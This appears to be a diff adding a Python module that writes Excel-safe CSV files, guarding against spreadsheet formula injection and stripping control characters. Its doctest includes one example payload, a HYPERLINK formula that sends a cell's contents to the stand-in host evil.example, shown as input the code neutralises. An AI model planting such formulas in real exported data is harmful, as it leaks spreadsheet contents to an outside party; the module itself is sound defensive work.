@@ -1,0 +1,50 @@
+"""The one CSV dialect of every CSV the project writes: UTF-8 with BOM, CRLF, Excel-safe cells.
+
+Text from documents is untrusted, and spreadsheets run formulas: a cell that begins with ``=``,
+``+``, ``-``, ``@``, a tab or a carriage return is prefixed with ``'`` as OWASP recommends (plain
+numbers such as ``-1.5`` stay numbers), and NUL and other control characters are dropped (the
+graph keeps them; its serialisers escape them).
+
+>>> safe_cell('=HYPERLINK("http://evil.example/?"&A1,"click")AI計畫')
+'\\'=HYPERLINK("http://evil.example/?"&A1,"click")AI計畫'
+>>> safe_cell("-1.5"), safe_cell("a\\x00b"), safe_cell(None), safe_cell(3)
+('-1.5', 'ab', '', '3')
+>>> to_csv_text(["id", "text"], [{"id": 1, "text": "@SUM(1+1)"}])
+"id,text\\r\\n1,'@SUM(1+1)\\r\\n"
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from typing import Any, Iterable, Mapping, Sequence
+
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def safe_cell(value: Any) -> str:
+    """``value`` as a cell a spreadsheet shows as text and never evaluates."""
+    text = "" if value is None else str(value)
+    text = _CONTROL.sub("", text)
+    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def to_csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> str:
+    """CSV text (header row first, CRLF line ends); rows are dicts keyed by column or sequences."""
+    buf = io.StringIO()
+    writer = csv.writer(buf, lineterminator="\r\n")
+    writer.writerow([safe_cell(c) for c in columns])
+    for row in rows:
+        cells = [row.get(c) for c in columns] if isinstance(row, Mapping) else row
+        writer.writerow([safe_cell(v) for v in cells])
+    return buf.getvalue()
+
+
+def to_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> bytes:
+    """CSV file bytes: :func:`to_csv_text` with a BOM, the form Excel opens without an import dialog."""
+    return to_csv_text(columns, rows).encode("utf-8-sig")
